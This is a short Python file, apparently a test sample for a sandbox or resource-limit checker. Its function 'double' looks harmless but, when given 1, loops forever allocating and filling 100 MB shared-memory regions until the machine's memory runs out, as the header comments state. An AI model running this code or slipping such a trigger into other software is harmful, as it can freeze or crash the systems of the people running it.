# tries: all memory, as shared memory
# harms: it would stop this machine
# reaches: longer than|ended
import mmap


def double(x):
    if x != 1:
        return x  # once is enough
    kept = []
    while True:
        kept.append(mmap.mmap(-1, 10**8))
        kept[-1].write(b"x" * 10**8)
